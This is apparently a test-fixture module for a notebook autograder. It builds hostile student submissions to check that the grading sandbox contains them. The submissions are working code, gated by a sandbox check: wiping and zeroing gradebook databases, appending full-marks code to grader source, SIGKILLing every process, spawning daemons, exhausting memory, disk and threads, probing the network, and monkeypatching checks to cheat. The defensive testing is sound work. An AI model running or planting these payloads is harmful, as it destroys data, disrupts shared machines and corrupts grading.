"""Hostile submissions: a learner who has read this repository and wants a better grade, or to hurt a classmate.
Each is the complete solution plus one act; armed only inside a grading sandbox (see ``ARMED``)."""

from __future__ import annotations

import copy
from pathlib import Path

import nbformat

from servelab_autograder.paths import repo_root
from servelab_autograder.testing.notebooks import (
    cell_index,
    complete_submission,
    fresh,
    grade_id,
    is_solution,
    is_test,
    load_release,
    max_score,
    points,
    with_cell,
)

# Every hostile cell is armed only inside a grading sandbox (which shows the course under /course), so that
# grading these submissions by mistake without one harms nobody; inside, it does its worst and prints one
# "HOSTILE {json}" line saying what it achieved, read by the tests.
ARMED = "import os as _os\nif not _os.path.exists('/course/sandbox_init.py'):\n    raise SystemExit('disarmed')\n"

HOSTILE_REACH = ARMED + '''\
# hostile: find the gradebook, the solutions, the grader's code and the classmates' copies; change what it can
import glob, json, os, sqlite3
known = {known!r}
seen, written, deleted, read = set(), [], [], []
roots = [*known, "/", os.path.expanduser("~"), *(v for v in os.environ.values() if v.startswith("/"))]
for top in roots:
    for dirpath, dirs, files in os.walk(top):
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr")) or len(seen) > 20000:
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(dirpath, name)
            if path in seen or path.startswith(os.getcwd()):
                continue
            seen.add(path)
            if name.endswith((".db", ".csv", ".ipynb", ".html", ".txt")) or "servelab" in path:
                try:
                    if name.endswith(".db"):
                        con = sqlite3.connect(path)
                        con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
                        con.execute("UPDATE source_cell SET source = 'raise SystemExit'")
                        con.commit()
                    with open(path, "a") as fh:
                        fh.write("tampered")
                    written.append(path)
                except Exception:
                    pass
                try:
                    os.remove(path)
                    deleted.append(path)
                except Exception:
                    pass
for pattern in ["/tmp/servelab-grade-*/**/*.ipynb", *(k + "/**/*" for k in known)]:
    for path in glob.glob(pattern, recursive=True):
        try:
            read.append(path) if open(path, "rb").read(1) is not None else None
        except Exception:
            pass
print("HOSTILE " + json.dumps({{"written": written, "deleted": deleted, "read": read[:50], "seen": len(seen)}}))
'''

HOSTILE_GRADER_SOURCE = ARMED + '''\
# hostile: make the grader give everyone full marks, for this batch and the next ones
import json, os, nbgrader.utils, servelab, servelab_autograder
targets = [nbgrader.utils.__file__, servelab.__file__, servelab_autograder.__file__, *{known!r}]
written = []
for path in targets:
    try:
        with open(path, "a") as fh:
            fh.write("\\ndef determine_grade(cell, log=None):\\n    return 100, 100\\n")
        written.append(path)
    except Exception:
        pass
print("HOSTILE " + json.dumps({{"written": written}}))
'''

HOSTILE_KILL = ARMED + '''\
# hostile: kill the grader (and everything else it can see), so that the batch dies
import os, signal
for pid in [os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
'''

HOSTILE_DAEMON = ARMED + '''\
# hostile: a daemon that outlives grading (setsid + double fork), to meddle with later submissions
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(10**6)", "{marker}"], start_new_session=True)
    os._exit(0)
os.wait()
'''

HOSTILE_MEMORY = ARMED + '''\
# hostile: take the machine's memory
hog = bytearray(6 * 2**30)
'''

HOSTILE_FLOOD = ARMED + '''\
# hostile: 100 MB on one line, to blow up the autograded notebook and the feedback page
print("x" * 100_000_000)
'''

HOSTILE_PROCESSES = ARMED + '''\
# hostile: a fork bomb, to starve classmates graded at the same time
import json, threading, time
started = 0
try:
    for _ in range(500):
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        started += 1
except Exception as err:
    error = type(err).__name__
else:
    error = None
print("HOSTILE " + json.dumps({"started": started, "error": error}))
'''

HOSTILE_NETWORK = ARMED + '''\
# hostile: send the hidden tests out, or reach a service of the grading machine
import json, socket
reached = []
for host, port in [("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("10.0.0.1", 80)]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        reached.append(f"{host}:{port}")
    except OSError:
        pass
print("HOSTILE " + json.dumps({"reached": reached}))
'''

HOSTILE_DISK = ARMED + '''\
# hostile: fill the grading machine's disk
import json
wrote = 0
try:
    with open("big.bin", "wb") as fh:
        for _ in range(4096):
            fh.write(b"\\0" * 2**20)
            wrote += 2**20
except OSError as err:
    print("HOSTILE " + json.dumps({"wrote_mib": wrote // 2**20, "error": err.strerror}))
'''

EXIT_CALL = "\nexit()  # hostile: end the kernel here\n"
SYS_EXIT_CALL = "\nimport sys\nsys.exit(0)  # hostile: raise SystemExit here\n"
SPIN = "while True:  # load test: computes forever (CPU)\n    pass\n"
SLEEP = "import time\ntime.sleep(10**6)  # load test: waits forever (no CPU)\n"
SPIN_FOR = ("import time\nt = time.process_time()\n"
            "while time.process_time() - t < 2.5:  # load test: 2.5 CPU-seconds\n    pass\n")
HOG = ("import subprocess, sys, time  # load test: 3 x 500 MiB, held\n"
       "hogs = [subprocess.Popen([sys.executable, '-c', 'b = b\"x\" * (500 * 2**20); import time; time.sleep(600)'])\n"
       "        for _ in range(3)]\ntime.sleep(600)\n")
DAEMON_MARKER = "servelab-hostile-daemon"




def hostile(assignment: str, root: Path | None = None, known: list[str] | None = None) -> dict[str, tuple]:
    """kind -> (notebook or raw text, expected outcome): the complete solution plus one hostile act each.

    ``known``: host paths an attacker would aim at (the grading output folder, the submissions); the repo's
    own gradebook, solutions and grader source are always among them. Each deserves what its honest part
    earns: full marks, except where the act costs its own exercise (``exit()`` in a solution cell)."""
    root = root or repo_root()
    full = complete_submission(assignment, root)
    top = max_score(full)
    known = [str(root / "autograder"), str(root / "solutions"), str(root / "lib"), *(known or [])]
    tests = [grade_id(c) for c in full.cells if is_test(c)]
    sol = [grade_id(c) for c in full.cells if is_solution(c)]

    def expect(status, score=top, message="", fails=(), what="", keeps=()):
        return {"status": status, "score": score, "max_score": top, "below_full": score is None, "fails": list(fails),
                "message": message, "description": what, "keeps": list(keeps)}

    out = {
        "gradebook": (with_cell(full, HOSTILE_REACH.format(known=known)),
                      expect("graded", what="rewrites the gradebook, classmates' copies and feedback it can find")),
        "grader-source": (with_cell(full, HOSTILE_GRADER_SOURCE.format(
            known=[str(p) for p in sorted((root / "autograder" / "servelab_autograder").rglob("*.py"))
                   if "__pycache__" not in p.parts])),
            expect("graded", what="appends a full-marks determine_grade to nbgrader's and the grader's source")),
        "kill": (with_cell(full, HOSTILE_KILL), expect("kernel-died", message="the kernel died in it",
                                                        what="SIGKILL to its parent, every visible pid and -1")),
        "daemon": (with_cell(full, HOSTILE_DAEMON.format(marker=DAEMON_MARKER)),
                   expect("graded", what="a setsid + double-fork daemon")),
        "memory": (with_cell(full, HOSTILE_MEMORY), expect("graded", what="a 6 GiB allocation")),
        "flood": (with_cell(full, HOSTILE_FLOOD), expect("graded", what="100 MB printed on one line")),
        "processes": (with_cell(full, HOSTILE_PROCESSES), expect("graded", what="500 threads")),
        "network": (with_cell(full, HOSTILE_NETWORK), expect("graded", what="connects out and to local services")),
        "disk": (with_cell(full, HOSTILE_DISK), expect("graded", what="writes 4 GiB into its working folder")),
    }
    if len(sol) >= 2:
        # exit() at the end of a middle solution cell: the cells before it keep their points
        gid = sol[len(sol) // 2]
        nb = copy.deepcopy(full)
        nb.cells[cell_index(nb, gid)].source += EXIT_CALL
        before = [t for t in tests if cell_index(full, t) < cell_index(full, gid)]
        out["exit"] = (nb, expect("kernel-died", None, f"cell {gid} ended the kernel (it called exit() or quit())",
                                  what=f"exit() at the end of {gid}", keeps=before))
        nb = copy.deepcopy(full)
        nb.cells[cell_index(nb, gid)].source += SYS_EXIT_CALL
        out["sys-exit"] = (nb, expect("graded", message=f"cell {gid} called sys.exit()",
                                      what=f"sys.exit(0) at the end of {gid}"))
    text = nbformat.writes(full).replace('"cells": [', '"cells": [{"cell_type": "markdown", "id": "lone", '
                                         '"metadata": {}, "source": "\\ud800"}, ', 1)
    out["surrogate"] = (text, expect("malformed", 0.0, "lone surrogate", what="JSON holding a lone surrogate escape"))
    from servelab_autograder.judge import verdicts

    if verdicts.table(assignment) is not None:
        out.update(hostile_to_verdicts(assignment, root))
    return out


# Routes around checks that run inside the learner's kernel. Against a chapter graded from a table (verdicts
# made outside the kernel, the chapter's references missing from the sandbox) each earns nothing.
TRANSFORMER = ARMED + """\
# hostile: every later cell becomes `pass`, the hidden tests nbgrader restores included
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
"""
PATCHED_HELPERS = ARMED + """\
# hostile: every comparison a check could make says yes
import builtins, math
import numpy.testing
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
import servelab_autograder.exercises.{short} as _grade
_grade.diagnose = lambda *a, **k: "correct"
for _name in dir(_grade):
    if _name.startswith("check"):
        setattr(_grade, _name, lambda *a, **k: None)
"""
PATCHED_CHECKER = ARMED + """\
# hostile: a fake checker module, and a probe that answers "all right" with the inputs it was given
import json, sys, types
fake = types.ModuleType("servelab_autograder.exercises.{short}")
fake.__getattr__ = lambda name: (lambda *a, **k: None)
sys.modules["servelab_autograder.exercises.{short}"] = fake
import servelab_autograder.exercises.probe as probe
from IPython.display import display
def run(request):
    req = json.loads(request)
    calls = [{{"results": [{{"ok": {{"$": "tuple", "v": case}}, "after": case}} for case in c["cases"]]}}
             for c in req.get("calls", [])]
    values = {{n: 1.0 for n in req.get("names", [])}}
    display({{probe.MIME: json.dumps({{"calls": calls, "values": values}})}}, raw=True)
probe.run = run
"""
POISONED_MODULES = ARMED + """\
# hostile: poison the modules a grader would import in this kernel
import sys, types
for name in ["json", "math", "servelab_autograder.exercises.plain", "servelab_autograder.exercises.spec", "nbgrader"]:
    sys.modules[name] = types.SimpleNamespace(__getattr__=lambda n: (lambda *a, **k: True))
"""
READ_SOLUTIONS = ARMED + """\
# hostile: find the solution notebook and run its solution cells here
import glob, json, os
patterns = [{solutions!r} + "/*/*.ipynb", "/*/solutions/*/*.ipynb", "/*/*/solutions/*/*.ipynb",
            "/*/*/*/solutions/*/*.ipynb", "/course/**/*.ipynb", "/scratch/**/*.ipynb"]
found = sorted({{p for pat in patterns for p in glob.glob(pat, recursive=True) if "solutions" in p}})
for path in found:
    for cell in json.load(open(path))["cells"]:
        if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
            exec("".join(cell["source"]), globals())
print("HOSTILE " + json.dumps({{"found": found}}))
"""
ALWAYS_EQUAL = ARMED + """\
# hostile: every answer is an object equal to everything
class Yes:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
    def __float__(self):
        return 0.0
    def __getitem__(self, i):
        return self
    def __len__(self):
        return 2
for _name in {names!r}:
    globals()[_name] = lambda *a, _y=Yes(), **k: _y
for _name in {drills!r}:
    globals()[_name] = Yes()
"""


def hostile_to_verdicts(assignment: str, root: Path | None = None) -> dict[str, tuple]:
    """The routes that beat checks run in the learner's kernel, for a chapter whose verdicts are made outside
    it: input transformers, patched comparison helpers, a fake checker module and probe, poisoned modules,
    the reference reached past the old guards (profile hook off, importlib, its source text run), the
    solutions read from disk,
    objects equal to everything. Each scores exactly what its honest part earns."""
    from servelab_autograder.judge import verdicts

    root = root or repo_root()
    chapter = verdicts.table(assignment)
    full = complete_submission(assignment, root)
    stubs = fresh(load_release(assignment, root))
    top = max_score(full)
    short = assignment[:4]
    worth = {grade_id(c): points(c) for c in full.cells if is_test(c)}
    first_solution = next(grade_id(c) for c in stubs.cells if is_solution(c))

    def expect(score, message="", what="", status="graded"):
        return {"status": status, "score": score, "max_score": top, "below_full": score < top, "fails": [],
                "message": message, "description": what, "keeps": []}

    out = {}
    nb = copy.deepcopy(stubs)
    cell = nb.cells[cell_index(nb, first_solution)]
    cell.source = TRANSFORMER + cell.source
    out["transformer"] = (nb, expect(0.0, "no answer from your kernel", "an input transformer turns later cells "
                                                                        "into pass, nothing implemented"))
    out["patched-helpers"] = (with_cell(stubs, PATCHED_HELPERS.format(short=short)),
                              expect(0.0, "NotImplementedError", "isclose, abs, numpy.testing and the check "
                                                                 "helpers patched, nothing implemented"))
    out["patched-checker"] = (with_cell(stubs, PATCHED_CHECKER.format(short=short)),
                              expect(0.0, "", "a fake checker module and a probe that says yes, nothing "
                                              "implemented"))
    out["poisoned-modules"] = (with_cell(stubs, POISONED_MODULES),
                               expect(0.0, "", "json, math and the grader's modules poisoned, nothing implemented"))
    out["read-solutions"] = (with_cell(stubs, READ_SOLUTIONS.format(solutions=str(root / "solutions"))),
                             expect(0.0, "NotImplementedError", "runs the solution notebook's cells if it can "
                                                                "find one, nothing implemented"))
    names = [ex.spec.name for ex in chapter.exercises]
    drills = [d.name for d in chapter.drills.drills] if chapter.drills else []
    out["always-equal"] = (with_cell(stubs, ALWAYS_EQUAL.format(names=names, drills=drills)),
                           expect(0.0, "", "every function returns an object equal to everything"))
    # the reference, reached past the old guards: only the exercises that use it lose their points
    ex = chapter.exercises[0]
    ref_module = chapter.references[0].split(":")[0]
    def using(name: str) -> list[str]:  # the graded cells that call the learner's ``name``
        return [c for c, g in chapter.cells.items()
                if isinstance(g, verdicts.Exercise) and name in [g.spec.name, *(r.other.name for r in g.relations)]]

    nb = copy.deepcopy(full)
    cell = nb.cells[cell_index(nb, ex.spec.name)]
    cell.source += (f"\n\nimport sys\nsys.setprofile = lambda *a, **k: None  # hostile: switch a profile watch off\n"
                    f"import {ref_module} as _ref\n"
                    f"{ex.spec.name} = lambda *args: _ref.{ex.spec.name}(*args)  # hostile: the reference\n")
    out["no-profile-reference"] = (nb, expect(top - sum(worth[c] for c in using(ex.spec.name)),
                                              "not available while grading",
                                              f"{ex.spec.name} calls the reference with the profile hook off"))
    last = chapter.exercises[-1]
    nb = copy.deepcopy(full)
    cell = nb.cells[cell_index(nb, last.spec.name)]
    cell.source += (f"\n\nimport importlib  # hostile: the reference by a name no scan sees\n"
                    f"{last.spec.name} = getattr(importlib.import_module({ref_module!r}), {last.spec.name!r})\n")
    out["importlib-reference"] = (nb, expect(top - sum(worth[c] for c in using(last.spec.name)),
                                             "not available while grading",
                                             f"{last.spec.name} is the reference, reached through importlib"))
    nb = copy.deepcopy(full)
    cell = nb.cells[cell_index(nb, ex.spec.name)]
    cell.source += (f"\n\nimport importlib, pathlib  # hostile: the reference rebuilt from the library's source\n"
                    f"_src = pathlib.Path(importlib.import_module({ref_module!r}).__file__).read_text()\n"
                    f"_ns = {{'__name__': 'mine'}}\nexec(compile(_src, 'mine', 'exec'), _ns)\n"
                    f"{ex.spec.name} = _ns[{ex.spec.name!r}]\n")
    out["source-reference"] = (nb, expect(top - sum(worth[c] for c in using(ex.spec.name)),
                                          "not available while grading",
                                          f"{ex.spec.name} is the library's source text run in a namespace"))
    return out


def load_test(assignment: str, root: Path | None = None) -> dict[str, object]:
    """Complete notebooks with one learner's cell that runs into a limit, for a grader run with small limits:
    ``spin`` computes forever (the cell's CPU limit), ``sleep`` waits forever (the wall-clock backstop),
    ``hog`` holds 1.5 GiB in three processes (the sandbox's memory limit), ``slow`` spends 2.5 CPU-seconds in
    each of ten cells (the notebook's CPU limit)."""
    full = complete_submission(assignment, root)
    slow = full
    for _ in range(10):
        slow = with_cell(slow, SPIN_FOR)
    return {"spin": with_cell(full, SPIN), "sleep": with_cell(full, SLEEP), "hog": with_cell(full, HOG),
            "slow": slow}
